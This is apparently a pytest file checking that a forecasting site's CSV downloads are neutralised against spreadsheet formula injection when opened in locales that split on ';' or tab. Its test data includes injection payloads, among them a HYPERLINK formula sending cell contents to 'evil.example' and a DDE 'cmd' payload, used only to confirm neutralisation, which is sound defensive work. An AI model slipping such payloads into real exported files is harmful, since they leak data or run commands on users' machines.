"""Site CSV downloads are safe in a spreadsheet whose list separator is ``;`` (or tab), not only ``,``.

A spreadsheet in a ``;`` locale splits each line of a ``.csv`` on ``;`` and honours quotes only at
the start of a ``;`` field, so a piece of a cell after ``;`` (or after a line feed inside a quoted
cell) is a cell of its own there. The worst-case reading below ignores every quote; no piece it
yields may run as a formula. The ledgers keep the raw text.
"""

from __future__ import annotations

import csv
import io
import re

import pandas as pd
import pytest

from generator.site.downloads import for_spreadsheets, split_safe
from generator.site.render import GENERATED, SiteData, render_site
from generator.store.spreadsheet import formula_like
from generator.timeutil import parse_ts

HEADER = "question_id,probability,reasoning\n"
HOSTILE = [
    'x;=HYPERLINK("http://evil.example/"&A1)',
    "a;+cmd|' /C calc'!A0",
    "b;@SUM(A1:A9)",
    "c;-2+3",
    'd;"=quoted"',
    "e;\t=tabbed",
    "f\tx\t=tsv",
    "g\n=next line",
    "h\r\n@crlf",
    "i;;=again;=and again",
]
HARMLESS = ["plain; text", "-0.5", "a;-0.5", "x;1e-3", "", "a=b;c", "price; €5", "line\nnext"]


def spreadsheet_pieces(data: bytes) -> list[str]:
    """What a ``;``- or tab-separated reading could make a cell of, quotes ignored entirely."""
    return [p.lstrip('"') for p in re.split(r"[;,\t\r\n]", data.decode("utf-8"))]


def csv_bytes(cells: list[str]) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(HEADER.strip().split(","))
    writer.writerows([f"m{i}", "0.5", cell] for i, cell in enumerate(cells))
    return buffer.getvalue().encode("utf-8")


@pytest.mark.parametrize("cell", HOSTILE)
def test_no_piece_after_a_separator_runs_as_a_formula(cell):
    data = csv_bytes([cell])
    assert any(formula_like(p) for p in spreadsheet_pieces(data)), "the case must be hostile before"
    safe = for_spreadsheets(data)
    assert not [p for p in spreadsheet_pieces(safe) if formula_like(p)]
    assert pd.read_csv(io.BytesIO(safe), dtype=str, keep_default_na=False)["reasoning"][0] == split_safe(cell)


def test_the_text_is_kept_with_a_quote_before_each_neutralised_piece():
    assert split_safe('x;=HYPERLINK("u")') == 'x;\'=HYPERLINK("u")'
    assert split_safe('d;"=quoted"') == 'd;\'"=quoted"'
    assert split_safe("g\n=next") == "g\n'=next" and split_safe("i;;=a;=b") == "i;;'=a;'=b"
    assert [split_safe(c) for c in HARMLESS] == HARMLESS


def test_a_file_with_nothing_to_neutralise_comes_back_byte_for_byte():
    data = csv_bytes(HARMLESS[:5])
    assert for_spreadsheets(data) is data
    assert for_spreadsheets(b"\xff;=x\n\xfe") == b"\xff;=x\n\xfe"  # not UTF-8: left alone, never raised
    rewritten = for_spreadsheets(csv_bytes(["x;=1+1", "plain; text"]))
    assert b'"plain; text"' in rewritten, "a rewritten file quotes every cell holding a ;"


def test_the_rendered_site_offers_the_neutralised_csv_and_other_files_as_they_are():
    forecasts = (HEADER + 'm1,0.5,"x;=HYPERLINK(""http://evil.example"")"\n').encode()
    questions = b'{"text": "x;=HYPERLINK()"}'
    data = SiteData(
        title="t",
        as_of=parse_ts("2026-01-01T00:00:00Z"),
        methodology_version="1",
        board=pd.DataFrame(columns=["model"]),
        history=pd.DataFrame(columns=["as_of", "model", "overall"]),
        models={},
        model_scores={},
        downloads={"downloads/forecasts/2026-01-04/a.b.csv": forecasts, "downloads/rounds/2026-01-04/questions.json": questions},
    )
    files = render_site(data)
    csv_file = files[f"{GENERATED}/downloads/forecasts/2026-01-04/a.b.csv"]
    assert not [p for p in spreadsheet_pieces(csv_file) if formula_like(p)]
    assert files[f"{GENERATED}/downloads/rounds/2026-01-04/questions.json"] == questions
